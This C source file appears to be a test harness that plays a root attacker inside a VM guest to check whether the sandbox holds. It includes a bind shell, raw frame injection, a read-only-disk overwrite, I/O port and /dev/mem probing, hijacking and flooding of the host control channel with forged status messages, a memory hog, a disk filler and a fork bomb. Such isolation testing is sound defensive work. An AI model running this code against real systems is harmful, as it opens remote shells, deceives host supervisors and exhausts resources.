/*
 * What an attacker who is root in a guest runs. One line on stdout for each thing
 * tried: "reached …" is a hole, "held …" is none.
 *
 *   attack shell PORT                 runs what comes over TCP as shell commands
 *   attack connect ADDRESS PORT …     tries TCP connections, all at once
 *   attack frame HEX …                sends frames as they are
 *   attack disk DEVICE                writes to a disk that is read-only
 *   attack ports                      reads every I/O port
 *   attack memory                     maps what the kernel gives of physical memory
 *   attack control BYTES              takes the host's channel from init and floods it
 *   attack vsock BYTES                the same where the channel is a vsock
 *   attack knock PORT …               tries the host's ports of the vsock
 *   attack eat                        takes memory until it is killed
 *   attack fill FILE                  writes to a file until there is no room
 *   attack fork SECONDS               forks for so long
 */
#include <arpa/inet.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <net/if.h>
#include <netpacket/packet.h>
#include <poll.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/ioctl.h>
#include <sys/mman.h>
#include <sys/socket.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

#define WAIT_MS (getenv("WAIT_MS") ? atoi(getenv("WAIT_MS")) : 2500)
#define HOST_CID 2
#define CONTROL_PORT 1024
#define BLKROSET 0x125d

static void say(int reached, const char *what, const char *how)
{
	printf("%s %s (%s)\n", reached ? "reached" : "held", what, how);
	fflush(stdout);
}

static int address_of(const char *text, int port, struct sockaddr_storage *to)
{
	struct sockaddr_in *v4 = (struct sockaddr_in *)to;
	struct sockaddr_in6 *v6 = (struct sockaddr_in6 *)to;

	memset(to, 0, sizeof(*to));
	if (inet_pton(AF_INET, text, &v4->sin_addr) == 1) {
		v4->sin_family = AF_INET;
		v4->sin_port = htons((uint16_t)port);
		return sizeof(*v4);
	}
	if (inet_pton(AF_INET6, text, &v6->sin6_addr) == 1) {
		v6->sin6_family = AF_INET6;
		v6->sin6_port = htons((uint16_t)port);
		/* Only a link-local address wants one. */
		if (IN6_IS_ADDR_LINKLOCAL(&v6->sin6_addr))
			v6->sin6_scope_id = if_nametoindex("eth0");
		return sizeof(*v6);
	}
	exit(2);
}

static void connect_one(const char *address, const char *port)
{
	struct sockaddr_storage to;
	int size = address_of(address, atoi(port), &to), error = 0;
	int fd = socket(to.ss_family, SOCK_STREAM | SOCK_NONBLOCK, 0);
	socklen_t length = sizeof(error);
	struct pollfd wait = {.fd = fd, .events = POLLOUT};
	char what[128];

	snprintf(what, sizeof(what), "%s %s", address, port);
	if (connect(fd, (struct sockaddr *)&to, (socklen_t)size) < 0 && errno != EINPROGRESS)
		error = errno;
	else if (poll(&wait, 1, WAIT_MS) == 0)
		error = ETIMEDOUT;
	else
		getsockopt(fd, SOL_SOCKET, SO_ERROR, &error, &length);
	/* A refusal is an answer too: somebody was reached. */
	say(error == 0 || error == ECONNREFUSED, what, error ? strerror(error) : "connected");
}

static int send_frame(const char *hex)
{
	struct sockaddr_ll to = {.sll_family = AF_PACKET, .sll_halen = 6};
	int fd = socket(AF_PACKET, SOCK_RAW, 0);
	unsigned char frame[2048];
	size_t size = strlen(hex) / 2;

	for (size_t i = 0; i < size; i++)
		sscanf(hex + 2 * i, "%2hhx", frame + i);
	to.sll_ifindex = (int)if_nametoindex("eth0");
	if (sendto(fd, frame, size, 0, (struct sockaddr *)&to, sizeof(to)) != (ssize_t)size)
		return printf("not sent: %s\n", strerror(errno)), 1;
	close(fd);
	return 0;
}

static void write_disk(const char *device)
{
	int fd = open(device, O_RDONLY), off = 0;
	static char block[4096] __attribute__((aligned(4096))) = "written by the guest";

	if (fd >= 0)
		ioctl(fd, BLKROSET, &off);
	fd = open(device, O_RDWR | O_DIRECT | O_SYNC);
	if (fd < 0) {
		say(0, device, strerror(errno));
		return;
	}
	say(pwrite(fd, block, sizeof(block), 0) > 0 && fsync(fd) == 0, device, strerror(errno));
}

static void read_ports(void)
{
	unsigned long sum = 0;

	if (iopl(3) < 0) {
		say(0, "ports", strerror(errno));
		return;
	}
	for (int port = 0; port < 0x10000; port++)
		sum += inb((unsigned short)port);
	printf("read all ports: %lu\n", sum);
}

static void map_memory(void)
{
	/* Beyond the guest's memory and among its devices; nothing of the host is there. */
	static const off_t places[] = {0xa0000, 0xf0000, 0xfed00000, 0xfee00000, 0x4000000000};
	int fd = open("/dev/mem", O_RDONLY);

	for (size_t i = 0; fd >= 0 && i < sizeof(places) / sizeof(*places); i++) {
		volatile unsigned char *at = mmap(NULL, 4096, PROT_READ, MAP_SHARED, fd, places[i]);

		printf("%#llx: ", (unsigned long long)places[i]);
		if (at == MAP_FAILED)
			printf("%s\n", strerror(errno));
		else
			printf("%02x %02x\n", at[0], at[100]);
	}
}

static int put(const char *path, const char *word)
{
	int fd = open(path, O_WRONLY);
	int done = fd >= 0 && write(fd, word, strlen(word)) > 0;

	if (fd >= 0)
		close(fd);
	return done;
}

static const char lie[] = "failed the host is at fault\nmemory 1 1\nexited 0\n";

static void flood_control(long bytes)
{
	DIR *devices = opendir("/sys/bus/virtio/drivers/virtio_console");
	struct dirent *entry;
	int fd = -1;
	long sent = 0;

	/* Init holds the port, which opens once: so it is taken away from everybody and given back. */
	while (devices && (entry = readdir(devices)))
		if (strncmp(entry->d_name, "virtio", 6) == 0 &&
		    put("/sys/bus/virtio/drivers/virtio_console/unbind", entry->d_name))
			put("/sys/bus/virtio/drivers/virtio_console/bind", entry->d_name);
	for (int turn = 0; fd < 0 && turn < 200; turn++) {
		char path[32];

		for (int port = 0; fd < 0 && port < 8; port++) {
			snprintf(path, sizeof(path), "/dev/vport%dp1", port);
			fd = open(path, O_WRONLY | O_NONBLOCK);
		}
		usleep(20000);
	}
	if (fd < 0) {
		printf("the channel was not taken: %s\n", strerror(errno));
		return;
	}
	for (int idle = 0; sent < bytes && idle < 100;) {
		ssize_t put = write(fd, lie, sizeof(lie) - 1);

		if (put > 0)
			sent += put, idle = 0;
		else
			idle++, usleep(20000);
	}
	printf("sent %ld\n", sent);
}

/* Of <linux/vm_sockets.h>, which musl has not. */
struct vsock_address {
	sa_family_t family;
	unsigned short reserved;
	unsigned int port, cid;
	unsigned char zero[4];
};

static int knock(unsigned int port)
{
	struct vsock_address to = {.family = AF_VSOCK, .port = port, .cid = HOST_CID};
	int fd = socket(AF_VSOCK, SOCK_STREAM, 0);

	if (connect(fd, (struct sockaddr *)&to, sizeof(to)) == 0)
		return fd;
	close(fd);
	return -1;
}

static void flood_vsock(long bytes)
{
	long sent = 0;

	signal(SIGPIPE, SIG_IGN);
	/* Init comes back, and takes the channel away again; so does this. */
	for (int refused = 0; sent < bytes && refused < 50;) {
		int fd = knock(CONTROL_PORT);
		ssize_t put;

		if (fd < 0) {
			refused++, usleep(20000);
			continue;
		}
		while (sent < bytes && (put = write(fd, lie, sizeof(lie) - 1)) > 0)
			sent += put;
		close(fd);
	}
	printf("sent %ld\n", sent);
}

static void fill(const char *path)
{
	static char block[1 << 20];
	int fd = open(path, O_WRONLY | O_CREAT, 0600);
	long written = 0;
	ssize_t put;

	while ((put = write(fd, block, sizeof(block))) > 0)
		written += put;
	printf("%ld bytes: %s\n", written, strerror(errno));
	close(fd);
}

static long now_ms(void)
{
	struct timespec now;

	clock_gettime(CLOCK_MONOTONIC, &now);
	return now.tv_sec * 1000 + now.tv_nsec / 1000000;
}

static void bomb(int seconds)
{
	long end = now_ms() + seconds * 1000;

	while (now_ms() < end)
		if (fork() < 0)
			usleep(1000);
	_exit(0);
}

static void serve_shell(int port)
{
	struct sockaddr_in6 here = {.sin6_family = AF_INET6, .sin6_port = htons((uint16_t)port)};
	int one = 1, listener = socket(AF_INET6, SOCK_STREAM, 0), fd;

	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	signal(SIGCHLD, SIG_IGN);
	if (bind(listener, (struct sockaddr *)&here, sizeof(here)) < 0 || listen(listener, 16) < 0)
		exit(3);
	while ((fd = accept(listener, NULL, NULL)) >= 0) {
		if (fork() == 0) {
			signal(SIGCHLD, SIG_DFL);
			for (int i = 0; i < 3; i++)
				dup2(fd, i);
			execl("/bin/sh", "sh", (char *)NULL);
			_exit(4);
		}
		close(fd);
	}
}

int main(int count, char **words)
{
	const char *what = count > 1 ? words[1] : "";

	if (strcmp(what, "shell") == 0 && count > 2)
		serve_shell(atoi(words[2]));
	for (int i = 2; strcmp(what, "connect") == 0 && i + 1 < count; i += 2)
		if (fork() == 0)
			return connect_one(words[i], words[i + 1]), 0;
	for (int i = 2; strcmp(what, "frame") == 0 && i < count; i++)
		if (send_frame(words[i]))
			return 1;
	if (strcmp(what, "disk") == 0 && count > 2)
		write_disk(words[2]);
	if (strcmp(what, "ports") == 0)
		read_ports();
	if (strcmp(what, "memory") == 0)
		map_memory();
	if (strcmp(what, "control") == 0 && count > 2)
		flood_control(atol(words[2]));
	if (strcmp(what, "vsock") == 0 && count > 2)
		flood_vsock(atol(words[2]));
	for (int i = 2; strcmp(what, "knock") == 0 && i < count; i++)
		say(knock((unsigned int)atoi(words[i])) >= 0, words[i], strerror(errno));
	while (strcmp(what, "eat") == 0)
		memset(malloc(1 << 20), 1, 1 << 20);
	if (strcmp(what, "fill") == 0 && count > 2)
		fill(words[2]);
	if (strcmp(what, "fork") == 0 && count > 2)
		bomb(atoi(words[2]));
	while (wait(NULL) > 0)
		;
	return 0;
}
